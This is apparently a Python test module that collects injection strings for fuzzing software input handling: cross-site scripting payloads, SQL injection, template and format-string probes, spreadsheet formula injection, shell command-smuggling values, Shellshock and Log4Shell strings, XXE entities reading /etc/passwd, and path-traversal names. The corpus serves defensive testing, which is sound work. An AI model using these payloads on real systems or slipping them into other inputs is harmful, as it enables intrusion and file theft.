"""Texts that are code for something: a browser, a database, a shell, a reader of formats."""

from __future__ import annotations

from itertools import product

_CALL = "alert(1)"
SCRIPTS = (
    *(f"{before}<script>{_CALL}</script>" for before in ("", "'>", '">', "-->", "]]>", "</title>")),
    *(f"<{tag} {event}={_CALL}>" for tag, event in product(
        ("img src=x", "svg/", "body", "input autofocus", "video><source", "details open"),
        ("onerror", "onload", "onfocus", "ontoggle"))),
    *(f"<a href='{scheme}{_CALL}'>x</a>" for scheme in (
        "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:", "data:,")),
    "<scr<script>ipt>", "<!--[if gte IE 4]>", "<style>@import'x'</style>", "<iframe src=//x>", "<br/>",
    "&lt;script&gt;", "&#60;script&#62;", "%3Cscript%3E", "\\x3cscript\\x3e", "\\u003cscript", "\u00bcscript\u00be",
    "\uff1cscript\uff1e", "<a b='", "<![CDATA[x]]>", "&nbsp;&amp;&bogus;&", "<b>bold</b><hr>",
)  # fmt: skip
"""Script injection."""

SQL = (
    *(f"{before}{code}" for before, code in product(
        ("1", "1'", '1"', "1')", "%'"),
        ("; DROP TABLE attempt", " OR 1=1 --", " UNION SELECT 1,2,3--", "/*", " AND sleep(9)#"),
    )),
    "ATTACH DATABASE 'x' AS y", "?1", ":name", "@p", "NEAR/2 OR NOT", '"unclosed fts', "a* AND (b", "col:x",
)  # fmt: skip

FORMATS = (
    *(f"%{width}{kind}" for width, kind in product(("", "9999", "*", "1$"), "sdnxpc")),
    "{}", "{0}", "{0.__class__}", "{x!r:>9999}", "{{", "}}", "{", "%(name)s", "${HOME}", "$HOME", "$(x)",
    "#{1+1}", "{{7*7}}", "{% raw %}", "{# c #}", "{{ ''.__class__.__mro__ }}", "<%= 7*7 %>", "${7*7}",
    "*bold* _it_ `code` [x](y)", "# heading\n- [ ] list\n> quote", "```\nfence", "![p](http://x.example/p)",
    "\\documentclass{x}\\input{y}", "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1",
)  # fmt: skip
"""Format strings, templates, lightweight markup, and cells that a spreadsheet would compute."""

SHELLS = (
    *(f"{start}touch owned.fail{end}" for start, end in (
        ("`", "`"), ("$(", ")"), ("; ", ""), ("| ", ""), ("&& ", ""), ("\n", "\n"), ("<(", ")"), ("' ; ", " #"))),
    "rm -rf ~/nothing", "> /dev/null", "2>&1", "!!", "!$", "~root", "*?[a-z]", "{a,b}", "$IFS$9", "%PATH%",
    "() { :;}; echo shocked", "() { _; } >_[$($())] { touch owned.fail; }", "${jndi:ldap://x.example/a}",
    "Power لُلُصّبُلُلصّبُررً ॣ ॣh ॣ ॣ 冗", "\u0c1c\u0c4d\u0c1e\u200c\u0c3e", "ssh -oProxyCommand=x", "--upload-pack=x",
    "ext::sh -c x", "http://a/%%30%30", 'System("ls")', 'eval("1")', "__import__('os')", "Kernel.exit(1)",
)  # fmt: skip
"""Commands for a shell or a language, and strings known from published flaws."""

XXE = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    '<!DOCTYPE z [<!ENTITY a "xx"><!ENTITY b "&a;&a;">]><z>&b;</z>', "<xi:include href='/etc/passwd'/>",
)  # fmt: skip
FILES = (
    *(f"{name}{end}" for name, end in product(("CON", "PRN", "AUX", "NUL", "COM1", "LPT9", "CLOCK$"), ("", ".toml"))),
    *(step * 6 + "etc/passwd" for step in ("../", "..\\", "..%2f", "%2e%2e/", "....//", "..%c0%af", "\uff0e\uff0e/")),
    "/etc/passwd", "C:\\nul\\nul", "\\\\?\\C:\\x", "\\\\host\\share", "file:///etc/passwd", "a/b", "name.", " name ",
    ".hidden", "..", ".", "a:b", "a*b?", "x.toml\x00.txt", "x" * 300, "-rf", "~", "name\n", "a|b<c>d",
)  # fmt: skip
"""Device names, ways out of a folder, and names that some system does not take."""

INJECTED = SCRIPTS + SQL + FORMATS + SHELLS + XXE + FILES
